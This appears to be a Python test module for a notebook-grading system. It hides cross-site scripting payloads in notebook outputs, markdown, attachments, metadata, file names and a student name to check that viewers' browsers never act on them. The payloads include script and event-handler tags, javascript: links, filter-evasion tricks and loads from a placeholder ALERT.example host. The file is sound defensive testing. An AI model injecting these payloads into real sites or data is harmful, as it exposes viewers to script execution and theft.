"""Attacks the reader: scripts, handlers, styles and addresses in outputs, texts, messages and names.

ALERT is in each of them; checks.py looks whether a browser would act upon it. The answers are right.
"""

from ..cases import ALL, MAY, Collection, all_but
from ..checks import ALERT

CASES = Collection("attacks the reader", earns=(ALL,), look=MAY)

TAGS = [
    f"<script>{ALERT}()</script>",
    f"<img src=x onerror={ALERT}()>",
    f"<svg onload={ALERT}()><animate onbegin={ALERT}()></svg>",
    f"<iframe srcdoc='<script>{ALERT}()</script>'></iframe>",
    f"<a href='javascript:{ALERT}()'>more</a>",
    f"<a href='https://{ALERT}.example/'>more</a>",
    f"<style>@import 'https://{ALERT}.example/a.css'; body {{ background: url(https://{ALERT}.example/) }}</style>",
    f"<link rel=stylesheet href=https://{ALERT}.example/>",
    f"<meta http-equiv=refresh content='0; url=https://{ALERT}.example/'>",
    f"<form action=https://{ALERT}.example/><input autofocus onfocus={ALERT}()></form>",
    f"<object data=https://{ALERT}.example/></object><embed src=https://{ALERT}.example/>",
    f"<details open ontoggle={ALERT}()></details>",
    f"<div style='background: url(https://{ALERT}.example/)'>x</div>",
    f"</pre></div></script><script>{ALERT}()</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ALERT}()>",
    f"<base href=https://{ALERT}.example/>",
]


CASES.snippets(
    {
        f"shows_{name}": f"""
            from IPython.display import publish_display_data
            for text in {TAGS!r}:
                publish_display_data({{{mime!r}: text, "text/plain": text}}, {{{mime!r}: {{"isolated": True}}}})
                publish_display_data({{{mime!r}: text}})
        """
        for name, mime in {
            "html": "text/html",
            "markdown": "text/markdown",
            "latex": "text/latex",
            "svg": "image/svg+xml",
            "png": "image/png",
            "jpeg": "image/jpeg",
            "pdf": "application/pdf",
            "javascript": "application/javascript",
            "unknown": "application/x-corpus",
            "widget": "application/vnd.jupyter.widget-view+json",
        }.items()
    },
    lambda submission, code: (submission.solve(), submission.insert(code, "receivers")),
)

CASES.snippets(
    {
        "prints_tags": f"for text in {TAGS!r}:\n    print(text)",
        "prints_tags_on_stderr": f"import sys\nfor text in {TAGS!r}:\n    print(text, file=sys.stderr)",
        "prints_colours": f"""
            print('\x1b[31m' + {TAGS[0]!r})
            print('\x1b]8;;javascript:{ALERT}()\x07link\x1b]8;;\x07')
        """,
        "html_with_tricks": f"""
            from IPython.display import HTML, display
            display(HTML("<scr<script>ipt>{ALERT}()</scr</script>ipt>"))
            display(HTML("<IMG SRC=x OnErRoR\\n=\\n{ALERT}()>"))
            display(HTML("<a href=' java\\nscript:{ALERT}()'>x</a>"))
            display(HTML("<a href='data:text/html,<script>{ALERT}()</script>'>x</a>"))
            display(HTML("<!--><script>{ALERT}()</script>-->"))
            display(HTML("<svg><a xlink:href='javascript:{ALERT}()'><text>x</text></a></svg>"))
        """,
        "magics": f"""
            from IPython.display import Javascript, IFrame, display
            display(Javascript("{ALERT}()"))
            display(Javascript(url="https://{ALERT}.example/x.js"))
            display(IFrame("https://{ALERT}.example/", 100, 100))
            get_ipython().run_cell_magic("html", "", "<script>{ALERT}()</script>")
            get_ipython().run_cell_magic("svg", "", "<svg onload='{ALERT}()'/>")
        """,
        "draws_itself": f"""
            class Picture:
                def _repr_html_(self):
                    return "<script>{ALERT}()</script>"
                def _repr_svg_(self):
                    return "<svg xmlns='http://www.w3.org/2000/svg' onload='{ALERT}()'><script>{ALERT}()</script></svg>"
                def _repr_mimebundle_(self, **options):
                    return {{"text/html": "<img src=x onerror={ALERT}()>", "text/plain": 3}}, {{"text/html": 3}}
            Picture()
        """,
        "data_without_end": """
            from IPython.display import JSON, publish_display_data
            deep, wide = [], [float("nan"), {"x": float("inf")}, "\\ud800", "\\0", 10**400]
            for _ in range(400):
                deep = [deep]
            publish_display_data({"application/json": deep, "text/plain": "deep"})
            publish_display_data({"application/json": wide, "text/plain": "wide"})
            publish_display_data({"application/json": 3, "text/plain": "\\ud800 \\0"}, {"deep": deep})
            JSON({"x": float("nan")})
        """,
        "pictures_of_other_kinds": f"""
            from IPython.display import publish_display_data
            publish_display_data({{"image/png": 3, "text/html": ["<script>", "{ALERT}()"], "text/plain": None}})
            tag = "'><script>{ALERT}()</script>"
            publish_display_data({{"image/png": tag}}, {{"image/png": {{"width": "1' onload='{ALERT}()"}}}})
            publish_display_data({{"image/png": "AAAA"}}, {{"image/png": {{"height": "1\\" onerror=\\"{ALERT}()"}}}})
        """,
    },
    lambda submission, code: (submission.solve(), submission.insert(code, "receivers")),
)

CASES.snippets(
    {
        "raises_tags": f"""
            def receivers(tensors):
                raise type("{TAGS[1]}", (Exception,), {{}})({TAGS!r})
        """,
        "fails_with_tags": f"""
            def receivers(tensors):
                return [*{TAGS!r}, "h"]
        """,
        "asserts_tags": f"""
            def receivers(tensors):
                raise AssertionError("".join({TAGS!r}))
        """,
    },
    lambda submission, code: (submission.solve(), submission.answer(receivers=code)),
    earns=(all_but("receivers"),),
)


@CASES.case()
def texts_with_tags(submission):
    submission.solve()
    for text in TAGS:
        submission.append(text, "markdown")
        submission.append(text, "raw")
    submission.append(
        f"[x](javascript:{ALERT}()) ![x](https://{ALERT}.example/x.png) <javascript:{ALERT}()>", "markdown"
    )
    submission.append(
        f"[x]: javascript:{ALERT}()\n[x] `<b onclick={ALERT}()>`\n\n$\\href{{javascript:{ALERT}()}}{{x}}$", "markdown"
    )


@CASES.case()
def given_texts_with_tags(submission):
    submission.solve()
    for cell in submission.cells:
        if cell["cell_type"] == "markdown":
            cell["source"] += "\n".join(TAGS)


@CASES.case()
def attachments(submission):
    submission.solve()
    cell = submission.append("![x](attachment:x.svg) ![y](attachment:y.png)", "markdown")
    cell["attachments"] = {
        "x.svg": {"image/svg+xml": f"<svg onload='{ALERT}()'/>"},
        "y.png": {"image/png": f"'\"><script>{ALERT}()</script>"},
    }


@CASES.case()
def outputs_handed_in(submission):
    submission.solve()
    for cell in submission.cells:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "display_data", "data": {"text/html": "".join(TAGS)}, "metadata": {}},
                {"output_type": "error", "ename": TAGS[0], "evalue": TAGS[1], "traceback": TAGS},
            ]


@CASES.case()
def metadata_with_tags(submission):
    submission.solve()
    tag = f"'\"></script><script>{ALERT}()</script>"
    submission.notebook["metadata"] = {
        "title": tag,
        "authors": [{"name": tag}],
        "kernelspec": {"name": tag, "display_name": tag, "language": tag},
        "language_info": {"name": tag, "pygments_lexer": tag, "mimetype": tag, "codemirror_mode": tag, "version": tag},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": tag}, "version_major": 2}},
    }
    for cell in submission.cells:
        cell["metadata"]["tags"] = [tag]
        cell["metadata"]["name"] = tag
    submission.append("1", "code")["id"] = tag


@CASES.case()
def names_with_tags(submission):
    submission.solve()
    submission.files[f"<img src=x onerror={ALERT}()>.ipynb"] = submission.text()
    submission.files[f"<script>{ALERT}().html"] = f"<script>{ALERT}()</script>"


@CASES.case(student=f"<img src=x onerror={ALERT}()>")
def a_student_named_like_a_tag(submission):
    submission.solve()


@CASES.case(earns=(all_but("receivers"),))
def sources_with_tags(submission):
    submission.solve()
    submission.cell("receivers")["source"] = "\n".join(TAGS)
    submission.append("# " + "</pre>".join(TAGS))
